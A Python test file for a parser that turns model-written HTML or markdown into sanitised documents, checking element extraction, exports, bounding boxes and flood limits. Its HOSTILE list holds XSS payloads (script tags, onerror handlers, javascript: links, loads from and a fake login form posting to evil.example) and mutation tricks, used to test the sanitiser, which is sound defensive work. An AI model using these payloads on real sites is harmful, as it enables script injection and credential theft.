"""Documents: read as they are meant, exported whole, and harmless whatever the model writes."""

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qwen_demo.answers import documents
from qwen_demo.answers.documents import tree
from qwen_demo.answers.documents.parse import MAX_ELEMENTS

PAGE = """```html
<html><body>
<h2 data-bbox="10 10 200 40">Invoice <b>No. 7</b></h2>
<p data-bbox="10 50 200 80">Dear Ada,
thanks.</p>
<table data-bbox="10 90 300 200"><tr><th>Item</th><th>Price</th></tr>
<tr><td rowspan="2">Tea</td><td>1</td></tr><tr><td>2|3</td></tr></table>
<ol><li data-bbox="1 2 3 4">one</li><li data-bbox="1 2 3 9">two</li></ol>
<div class="formula" data-bbox="5 5 9 9"><img data-bbox="5 5 9 9"/><div>$$ \\frac{a}{b} < c $$</div></div>
<div class="image" data-bbox="1 1 5 5"><img data-bbox="1 1 5 5"/></div>
<ul><li>a</li><li>b</li></ul>
</body></html>
```"""


def test_qwenvl_html_gives_elements_with_kinds_and_regions():
    document = documents.parse(PAGE)
    assert document.form == "html" and not document.cut
    assert [(e.number, e.kind, e.text) for e in document.elements] == [
        (1, "heading", "Invoice No. 7"),
        (2, "paragraph", "Dear Ada, thanks."),
        (3, "table", "Item Price Tea 1 2|3"),
        (4, "list item", "one"),
        (5, "list item", "two"),
        (6, "formula", "\\frac{a}{b} < c"),
        (7, "image", ""),
        (8, "list", "a b"),
    ]
    assert document.elements[2].region == (10, 90, 300, 200)
    assert document.elements[7].region is None


def test_exports_hold_everything():
    document = documents.parse(PAGE)
    assert documents.markdown(document) == (
        "## Invoice **No. 7**\n\nDear Ada, thanks.\n\n"
        "| Item | Price |\n|---|---|\n| Tea | 1 |\n|  | 2\\|3 |\n\n1. one\n2. two\n\n"
        "$$\n\\frac{a}{b} < c\n$$\n\n[image]\n\n- a\n- b\n"
    )
    rows = json.loads(json.dumps(documents.rows(document)))
    assert rows[2]["bbox"] == [10, 90, 300, 200]
    assert rows[2]["html"].count("<td") == 3
    again = documents.parse(documents.html(document, "A <title>"))
    assert [e.text.removeprefix("1. ").removeprefix("2. ") for e in again.elements] == [
        e.text or "▧" for e in document.elements
    ]
    assert [e.region for e in again.elements] == [e.region for e in document.elements]


def test_markdown_is_read_with_tables_and_formulas():
    document = documents.parse("# Title\n\nso \\(a_b\\)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$x_1^2$$\n\n1. q\n2. r")
    assert document.form == "markdown"
    assert [(e.kind, e.text) for e in document.elements] == [
        ("heading", "Title"),
        ("paragraph", "so a_b"),
        ("table", "a b 1 2"),
        ("formula", "x_1^2"),
        ("list", "q r"),
    ]
    assert "$$\nx_1^2\n$$" in documents.markdown(document)


def test_plain_lines_stay_lines():
    (element,) = documents.parse("Welcome to the\nimage room").elements
    assert element.kind == "paragraph"
    assert "<br>" in documents.srcdoc(documents.parse("Welcome to the\nimage room"))


def test_an_answer_that_was_cut_off_is_read_as_far_as_it_goes():
    for end in range(0, len(PAGE), 7):
        document = documents.parse(PAGE[:end])
        assert len(document.elements) <= 9
    whole = PAGE.index("</table>")
    assert [e.kind for e in documents.parse(PAGE[:whole]).elements] == ["heading", "paragraph", "table"]


def test_regions_are_scaled_to_the_page_and_clipped():
    text = "".join(
        f'<p data-bbox="{box}">x</p>'
        for box in ("0 0 50 25", "90 90 500 500", "-9 -9 -1 -1", "30 20 10 10", "1,2,3", "nan 1 2 3", "1e999 0 1 1")
    )
    regions = [e.region for e in documents.parse(text).scaled((100, 100), (1000, 2000)).elements]
    assert regions[:4] == [(0, 0, 500, 500), (900, 1800, 1000, 2000), None, (100, 200, 300, 400)]
    assert regions[4] is None and regions[5] is None


class Reading(HTMLParser):
    """What a browser would find: tags, attributes, and how the body is built."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.depth, self.top = set(), set(), 0, 0
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.top += self.depth == 0
        self.depth += tag not in tree.VOID

    def handle_endtag(self, tag):
        self.depth -= tag not in tree.VOID


HOSTILE = [
    "<script>alert(1)</script><p onclick=alert(1)>x</p>",
    "<p><script src=//evil.example></script>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    '<a href="javascript:alert(1)">link</a><a href="https://evil.example" target=_top>x</a>',
    "[x](javascript:alert(1)) <https://evil.example> ![x](https://evil.example/x.png)",
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href=//evil.example>',
    "<style>@import '//evil.example'; body{display:none}</style><p style='position:fixed;inset:0'>x</p>",
    '<link rel=stylesheet href=//evil.example><img src=x onerror=alert(1) data-bbox="1 2 3 4">',
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<svg onload=alert(1)><animate onbegin=alert(1)><foreignObject><p>x</foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</div></body></html><script>1</script><p id=e1 class='element' data-n=9>x",
    "<p data-bbox='1 2 3 4\"><script>1</script>'>x</p><noscript><p title='</noscript><img src=x onerror=1>'>",
    "<template><script>1</script></template><textarea></textarea><!--><script>1</script>--><![CDATA[<script>1</script>]]>",
    "```html\n<scr<script>ipt>1</scr</script>ipt>\n```",
    "<table><caption><table><tr><td><p></table><div>x",
]


def assert_harmless(text: str) -> None:
    document = documents.parse(text)
    srcdoc = documents.srcdoc(document)
    head, _, body = srcdoc.partition("<body>")
    assert "default-src 'none'" in head
    reading = Reading(body.removesuffix("</body></html>"))
    assert reading.tags <= tree.BLOCKS | tree.INLINE | tree.TABLE
    assert {name for _, name in reading.attributes} <= {"id", "data-n", "class", "colspan", "rowspan"}
    # Nothing breaks out of the element that it belongs to.
    assert (reading.depth, reading.top) == (0, len(document.elements))
    documents.markdown(document)
    exported = Reading(documents.html(document, text))
    assert not exported.tags & {"script", "iframe", "style", "img", "a", "form"}
    json.dumps(documents.rows(document))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_run_load_or_disguise_itself_does_not_get_through(text):
    assert_harmless(text)


PIECES = r"""<p data-bbox='1 2 3 4'>|</p>|<table>|<tr>|<td colspan=9999999>|</table>|<ul>|<li>|<script>|</script>|<b>
</b>|<pre>|&|<|>|"|'|<div class='formula|x'>|</div>|<svg>|</svg>|<style>|<!--|-->|$$|```|#|<img src=x>|&lt;script&gt;"""
pieces = st.sampled_from([*re.split(r"[|\n]", PIECES), "|", "\n", "text"])


@given(st.lists(pieces | st.text(max_size=8), max_size=30).map("".join))
def test_any_answer_gives_a_harmless_document(text):
    assert_harmless(text)


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 30_000,
        "<b><p>" * 30_000,
        "<table><tr>" + "<td>x" * 50_000,
        "<table>" + "<tr><td colspan=999999999 rowspan=999999999>x" * 300,
        "<p data-bbox='1 1 5 5'>x" * 9_000,
        "\\(" * 60_000,
        "\\[" * 60_000,
        "|a" * 9_000 + "\n" + "|-" * 9_000 + "\n",
        "[" * 30_000,
        "> " * 60_000,
    ],
    ids=lambda text: text[:9],
)
def test_floods_are_cut(text):
    document = documents.parse(text)
    assert len(document.elements) <= MAX_ELEMENTS
    cells = documents.srcdoc(document).count("<td")
    assert cells <= tree.MAX_CELLS
    spans = [int(number) for number in re.findall(r'(?:col|row)span="(\d+)"', documents.srcdoc(document))]
    assert all(number <= tree.MAX_SPAN for number in spans)
    assert len(documents.markdown(document)) < 8_000_000


def test_what_was_left_out_is_told():
    assert documents.parse("<p>x</p>" * 600).cut
    assert documents.parse("x" * 200_000).cut
    assert not documents.parse("<p>x</p>" * 400).cut
